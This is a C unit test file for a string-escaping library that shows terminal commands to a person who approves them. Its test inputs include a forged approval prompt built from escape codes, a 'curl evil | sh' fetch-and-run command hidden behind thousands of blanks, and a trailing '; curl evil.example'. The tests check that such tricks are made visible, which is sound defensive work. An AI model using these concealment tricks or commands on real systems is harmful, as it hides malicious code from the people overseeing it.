// SPDX-License-Identifier: ISC
/* Strings for a person's terminal (common/vis.c): what is shown how. */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/vis.h"
#include "tests/unit/unit.h"

START_TEST(text_passes)
{
	ck_assert_str_eq(vis("git push origin main"), "git push origin main");
	ck_assert_str_eq(vis("caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80"),
	    "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80");
	ck_assert_str_eq(vis(NULL), "-");
	ck_assert_str_eq(vis("a\\b"), "a\\\\b");
}
END_TEST

START_TEST(controls_shown)
{
	/* The forged prompt of issue 25. */
	ck_assert_str_eq(vis("id > ~/X\r\033[2K[REQ] ls -la allow? \033[8m"),
	    "id > ~/X\\r\\e[2K[REQ] ls -la allow? \\e[8m");
	ck_assert_str_eq(vis("\t\n\x7f\x01"), "\\t\\n\\x7f\\x01");
	/* C1 controls as UTF-8 (CSI, OSC) and bare. */
	ck_assert_str_eq(vis("\xc2\x9b" "2J\xc2\x9d"), "\\x9b2J\\x9d");
	ck_assert_str_eq(vis("\x9b" "2J"), "\\x9b2J");
}
END_TEST

START_TEST(hidden_shown)
{
	/* RLO, LRI, PDI, ZWSP, ZWJ, BOM, a tag, LS. */
	ck_assert_str_eq(vis("a\xe2\x80\xae" "b"), "a<U+202E>b");
	ck_assert_str_eq(vis("\xe2\x81\xa6x\xe2\x81\xa9"), "<U+2066>x<U+2069>");
	ck_assert_str_eq(vis("r\xe2\x80\x8bm"), "r<U+200B>m");
	ck_assert_str_eq(vis("\xe2\x80\x8d\xef\xbb\xbf"), "<U+200D><U+FEFF>");
	ck_assert_str_eq(vis("\xf3\xa0\x80\x81"), "<U+E0001>");
	ck_assert_str_eq(vis("\xe2\x80\xa8"), "<U+2028>");
}
END_TEST

START_TEST(not_utf8)
{
	/* Overlong ESC, a surrogate, a cut sequence, past U+10FFFF. */
	ck_assert_str_eq(vis("\xc0\x9b"), "\\xc0\\x9b");
	ck_assert_str_eq(vis("\xed\xa0\x80"), "\\xed\\xa0\\x80");
	ck_assert_str_eq(vis("\xe2\x80"), "\\xe2\\x80");
	ck_assert_str_eq(vis("\xf4\x90\x80\x80"),
	    "\\xf4\\x90\\x80\\x80");
}
END_TEST

START_TEST(bounded)
{
	char	buf[8];
	size_t	n;

	n = vis_n(buf, sizeof(buf), "\033\033\033\033\033", 5, 0);
	ck_assert_uint_eq(n, 10);
	ck_assert_str_eq(buf, "\\e\\e\\e\\");
	n = vis_n(buf, 0, "abc", 3, 0);
	ck_assert_uint_eq(n, 3);
	/* A NUL inside the length is a byte like another. */
	n = vis_n(buf, sizeof(buf), "a\0b", 3, 0);
	ck_assert_str_eq(buf, "a\\x00b");
}
END_TEST

/*
 * What an approver is asked about (vis_ask): a command padded with
 * blanks, or too long for the screen, shows both ends and says what it
 * left out; escapes hold inside; a short string is as vis() shows it.
 */
START_TEST(ask_blanks)
{
	char	*in = malloc(5000), *out;
	int	 cut;

	snprintf(in, 5000, "ls%*s; curl evil | sh", 4001, "");
	out = vis_ask(in, VIS_ASK_MAX, &cut);
	ck_assert_str_eq(out, "ls<4001 blanks>; curl evil | sh");
	ck_assert_int_eq(cut, 0);
	free(out);
	/* Tabs and Unicode's spaces (NBSP, EM SPACE, IDEOGRAPHIC SPACE). */
	out = vis_ask("a\t\t\xc2\xa0\xc2\xa0\xe2\x80\x83\xe3\x80\x80 b",
	    VIS_ASK_MAX, &cut);
	ck_assert_str_eq(out, "a<7 blanks>b");
	free(out);
	/* The braille blank (U+2800), drawn as a space. */
	out = vis_ask("a\xe2\xa0\x80\xe2\xa0\x80\xe2\xa0\x80\xe2\xa0\x80"
	    "\xe2\xa0\x80" "b", VIS_ASK_MAX, &cut);
	ck_assert_str_eq(out, "a<5 blanks>b");
	free(out);
	/* A few blanks stay as they are. */
	out = vis_ask("git  push    origin", VIS_ASK_MAX, &cut);
	ck_assert_str_eq(out, "git  push    origin");
	free(out);
	/* An escape sequence after the blanks is still escaped. */
	out = vis_ask("x          \033[2K\rok", VIS_ASK_MAX, &cut);
	ck_assert_str_eq(out, "x<10 blanks>\\e[2K\\rok");
	free(out);
	free(in);
}
END_TEST

START_TEST(ask_long)
{
	size_t	 n = 100 * 1024, len;
	char	*in = malloc(n + 1), *out, *full;
	int	 cut;

	memset(in, 'x', n);
	memcpy(in, "echo ", 5);
	memcpy(in + n - 20, "; curl evil.example", 19);
	in[n - 1] = '!';
	in[n] = '\0';
	out = vis_ask(in, VIS_ASK_MAX, &cut);
	len = strlen(out);
	ck_assert_int_eq(cut, 1);
	ck_assert_msg(len <= VIS_ASK_MAX + 64, "%zu bytes", len);
	ck_assert(strncmp(out, "echo ", 5) == 0);
	ck_assert_msg(strstr(out, "; curl evil.example!") != NULL, "%s", out);
	ck_assert_msg(strstr(out, "bytes more, answer v to see all") != NULL,
	    "%s", out);
	/* Head, marker and tail account for every byte. */
	ck_assert_msg(strstr(out, "<... 102000 bytes more") != NULL, "%s",
	    out);
	/* No limit: the whole of it. */
	full = vis_ask(in, 0, &cut);
	ck_assert_int_eq(cut, 0);
	ck_assert_str_eq(full, in);
	free(full);
	free(out);
	/* A cut never splits an escape: \e stays whole at either end. */
	memset(in, '\033', n);
	in[n] = '\0';
	out = vis_ask(in, VIS_ASK_MAX, &cut);
	ck_assert_msg(strstr(out, "\\e <...") != NULL, "%s", out);
	ck_assert_msg(strstr(out, "...> \\e") != NULL, "%s", out);
	free(out);
	out = vis_ask(NULL, VIS_ASK_MAX, &cut);
	ck_assert_str_eq(out, "-");
	free(out);
	free(in);
}
END_TEST

int
main(void)
{
	Suite	*s = suite_create("vis");
	TCase	*tc = tcase_create("vis");

	tcase_add_test(tc, text_passes);
	tcase_add_test(tc, controls_shown);
	tcase_add_test(tc, hidden_shown);
	tcase_add_test(tc, not_utf8);
	tcase_add_test(tc, bounded);
	tcase_add_test(tc, ask_blanks);
	tcase_add_test(tc, ask_long);
	suite_add_tcase(s, tc);
	return unit_run(s);
}
